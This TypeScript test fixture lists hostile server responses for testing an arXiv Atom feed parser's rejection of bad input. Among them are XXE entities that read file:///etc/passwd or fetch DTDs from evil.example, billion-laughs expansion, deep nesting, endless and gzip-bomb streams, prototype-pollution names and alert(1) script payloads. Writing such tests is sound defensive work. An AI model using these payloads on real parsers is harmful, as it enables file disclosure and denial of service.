/** What a server might send in place of a feed, and the code of the trouble it is told as. */
export type HostileFeed = [name: string, body: () => BodyInit, code: string];

const time = '2026-01-01T00:00:00Z';
const counts = '<totalResults>1</totalResults><startIndex>0</startIndex>';
const head = `<updated>${time}</updated>${counts}`;
const entry = `<entry><id>http://arxiv.org/abs/2601.00001v1</id><title>A</title><summary>B</summary>
  <published>${time}</published><updated>${time}</updated></entry>`;

/** A feed that is well but for what is said. */
export function feedText({ before = '', inside = '', entries = entry, start = head } = {}): string {
  return `${before}<feed xmlns="http://www.w3.org/2005/Atom">${start}${inside}${entries}</feed>`;
}

const fine = feedText();

function utf16(text: string, isLittle: boolean, hasMark = true): Uint8Array<ArrayBuffer> {
  const units = hasMark ? `\uFEFF${text}` : text;
  const bytes = new DataView(new ArrayBuffer(units.length * 2));
  for (let at = 0; at < units.length; at += 1) {
    bytes.setUint16(at * 2, units.charCodeAt(at), isLittle);
  }
  return new Uint8Array(bytes.buffer);
}

function nested(name: string, depth: number): string {
  return `<${name}>`.repeat(depth) + `</${name}>`.repeat(depth);
}

function random(seed: number, size: number): Uint8Array<ArrayBuffer> {
  const bytes = new Uint8Array(size);
  let state = seed;
  for (let at = 0; at < size; at += 1) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    bytes[at] = state >>> 24;
  }
  return bytes;
}

/** Pieces as a stream that is read on and on, and says when it was let go. */
function endless(piece: string): () => ReadableStream<Uint8Array> {
  const bytes = new TextEncoder().encode(piece.repeat(Math.ceil(1_000_000 / piece.length)));
  return () =>
    new ReadableStream({ pull: (stream) => stream.enqueue(bytes) }, { highWaterMark: 0 });
}

function zipped(text: string, times: number): () => BodyInit {
  const piece = new TextEncoder().encode(text.repeat(1_000_000 / text.length));
  return () => {
    let left = times;
    const plain = new ReadableStream<BufferSource>({
      pull(stream) {
        if (left > 0) stream.enqueue(piece);
        else stream.close();
        left -= 1;
      },
    });
    // As the network would unpack it on the way.
    return plain
      .pipeThrough(new CompressionStream('gzip'))
      .pipeThrough(new DecompressionStream('gzip'));
  };
}

const entities = [
  '<!ENTITY a "ha">',
  '<!ENTITY a SYSTEM "file:///etc/passwd">',
  '<!ENTITY a SYSTEM "https://evil.example/">',
  '<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;',
  '<!ENTITY a "&a;">',
  '<!ENTITY a "&b;&b;"><!ENTITY b "&a;&a;">',
  Array.from({ length: 30 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join(''),
  `<!ENTITY a "${'ha'.repeat(100_000)}">`,
  '<!ELEMENT feed ANY>',
  '<!ATTLIST feed onload CDATA "x">',
  '<!NOTATION x SYSTEM "x">',
];

const doctypes: HostileFeed[] = [
  ...entities.map((inside) => `<!DOCTYPE feed [${inside}]>`),
  '<!DOCTYPE feed>',
  '<!doctype feed>',
  '<!DOCTYPE feed SYSTEM "https://evil.example/feed.dtd">',
  '<!DOCTYPE feed PUBLIC "-//W3C//DTD" "https://evil.example/feed.dtd">',
  '<!DOCTYPE',
  `<!DOCTYPE feed [${'<!ENTITY x "y">'.repeat(10_000)}]>`,
].map((before, at) => [
  `document type ${at + 1}`,
  () => feedText({ before, inside: '<x>&a;</x>' }),
  'malformed',
]);

const cuts: HostileFeed[] = [0.1, 0.3, 0.5, 0.7, 0.9, 0.99].map((share) => [
  `cut off after ${share * 100} %`,
  () => fine.slice(0, fine.length * share),
  'malformed',
]);

const broken: HostileFeed[] = [
  ['a tag without an end', '<feed'],
  ['a tag that is never closed', '<feed><a>'],
  ['tags that cross', '<feed><a><b></a></b></feed>'],
  ['two roots', `${fine}${fine}x</feed>`],
  ['an end without a beginning', `</feed>${fine}`],
  ['an attribute twice', '<feed a="1" a="2"></feed>'],
  ['an attribute without quotes', '<feed a=1></feed>'],
  ['an attribute without an end', '<feed a="1></feed>'],
  ['a comment without an end', '<feed><!-- </feed>'],
  ['a CDATA without an end', '<feed><![CDATA[ </feed>'],
  ['an instruction without an end', '<feed><?x </feed>'],
  ['a name of signs', '<feed><$%&></$%&></feed>'],
  ['a page', '<html><body><p>Sign in to this network</p></body></html>'],
  ['a page with scripts', '<html><script>alert(1)</script></html>'],
  ['a picture', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['a feed of another kind', '<rss version="2.0"><channel><item/></channel></rss>'],
  ['a feed within something', `<x>${fine}</x>`],
  ['JSON', '{"feed":{"entry":[]}}'],
  ['a number', '0'],
  ['words', 'Service temporarily unavailable'],
  ['NUL bytes', '\0'.repeat(10_000)],
  ['NUL bytes within tags', fine.replaceAll('<', '<\0')],
  ['a prototype for a root', '<__proto__></__proto__>'],
  ['a constructor for a root', '<constructor></constructor>'],
  [
    'a prototype in an entry',
    feedText({ entries: entry.replace('<title>', '<__proto__><x/></__proto__><title>') }),
  ],
].map(([name = '', text = '']) => [name, () => text, 'malformed']);

const heads: HostileFeed[] = [
  ['no time', counts],
  ['a time that is none', `<updated>now</updated>${counts}`],
  ['a time of script', `<updated>${time}; alert(1)</updated>${counts}`],
  ['a time long before arXiv', `<updated>1066-01-01T00:00:00Z</updated>${counts}`],
  ['a time at the end of times', `<updated>9999-12-31T23:59:59Z</updated>${counts}`],
  ['no counts', `<updated>${time}</updated>`],
  ...['', '-1', '1.5', '1e9', 'NaN', 'Infinity', '0x10', '9'.repeat(400), '１'].map((total) => [
    `a count of ${total.slice(0, 20) || 'nothing'}`,
    head.replace('<totalResults>1<', `<totalResults>${total}<`),
  ]),
].map(([name = '', start = '']) => [name, () => feedText({ start }), 'malformed']);

const encodings: HostileFeed[] = [
  ['UTF-16, little end first', () => utf16(fine, true), 'malformed'],
  ['UTF-16, big end first', () => utf16(fine, false), 'malformed'],
  ['UTF-16 without a mark', () => utf16(fine, true, false), 'malformed'],
  ...['ISO-8859-1', 'iso-8859-15', 'windows-1252', 'UTF-16', 'UTF-7', 'EBCDIC-CP-US', 'utf8x'].map(
    (encoding): HostileFeed => [
      `declared as ${encoding}`,
      () => feedText({ before: `<?xml version="1.0" encoding="${encoding}"?>` }),
      'malformed',
    ],
  ),
  ...[1, 2, 3, 4, 5, 6, 7, 8].map(
    (seed): HostileFeed => [`random bytes ${seed}`, () => random(seed, 5_000), 'malformed'],
  ),
  ['a packed file', () => random(9, 300_000), 'malformed'],
];

const deep: HostileFeed[] = [101, 1_000, 10_000, 100_000].flatMap((depth): HostileFeed[] => [
  [`${depth} elements in each other`, () => nested('a', depth), 'malformed'],
  [`${depth} feeds in each other`, () => nested('feed', depth), 'malformed'],
  [
    `${depth} entries in each other`,
    () => feedText({ entries: nested('entry', depth) }),
    'malformed',
  ],
  [
    `${depth} elements in a title`,
    () => feedText({ entries: entry.replace('>A<', `>${nested('i', depth)}<`) }),
    'malformed',
  ],
]);

const large: HostileFeed[] = [
  ['an answer of blanks without end', endless(' '), 'too-large'],
  ['an answer of entries without end', endless(entry), 'too-large'],
  ['an answer of tags without end', endless('<a>'), 'too-large'],
  ['an answer of comments without end', endless('<!--'), 'too-large'],
  ['an answer of NUL bytes without end', endless('\0'), 'too-large'],
  ['200 MB of nothing, packed', zipped(' ', 200), 'too-large'],
  ['more entries than arXiv gives', () => feedText({ entries: entry.repeat(5_001) }), 'malformed'],
];

const empty: HostileFeed[] = ['', ' ', '\n\n', '\uFEFF', '\uFEFF \r\n'].map((text) => [
  `nothing, as ${JSON.stringify(text)}`,
  () => text,
  'empty',
]);

/** Answers of servers that mean ill, are ill or aren't arXiv's. */
export const hostileFeeds: readonly HostileFeed[] = [
  ...doctypes,
  ...cuts,
  ...broken,
  ...heads,
  ...encodings,
  ...deep,
  ...large,
  ...empty,
];
